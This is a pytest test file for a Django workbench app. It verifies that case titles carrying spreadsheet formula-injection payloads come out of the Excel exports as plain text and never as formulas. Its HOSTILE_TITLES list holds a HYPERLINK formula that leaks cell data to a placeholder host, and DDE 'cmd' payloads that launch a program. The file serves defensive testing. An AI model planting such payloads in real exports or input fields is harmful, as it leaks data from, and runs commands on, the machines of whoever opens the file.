"""Hostile titles leave through every Excel export as the text they are, never as formulas."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.cases.conftest import Catalogue, People, web_case
from tests.conftest import Tree, login

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=cmd|' /C calc'!A0",
    "路灯\x0b不亮",  # a character XML cannot hold: dropped, not a server error
]


def _title_cells(content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [(row[1].value, row[1].data_type) for row in sheet.iter_rows(min_row=2)]


def test_the_queue_export_writes_hostile_titles_as_text(
    tree: Tree, catalogue: Catalogue, people: People
) -> None:
    for title in HOSTILE_TITLES:
        web_case(tree, catalogue, title=title)
    response = login(people.dispatcher).get("/workbench/export/", {"queue": "all"})
    assert response.status_code == 200
    cells = _title_cells(response.content)
    expected = {title.replace("\x0b", "") for title in HOSTILE_TITLES}
    assert {value for value, _kind in cells} == expected
    assert {kind for _value, kind in cells} == {"s"}  # not one formula ("f")


def test_the_drill_down_export_writes_hostile_titles_as_text(
    tree: Tree, catalogue: Catalogue, people: People
) -> None:
    web_case(tree, catalogue, title=HOSTILE_TITLES[0])
    response = login(people.supervisor).get(
        "/workbench/dashboard/cases/",
        {"unit": str(tree.county.pk), "figure": "received", "export": "xlsx"},
    )
    assert response.status_code == 200
    assert _title_cells(response.content) == [(HOSTILE_TITLES[0], "s")]
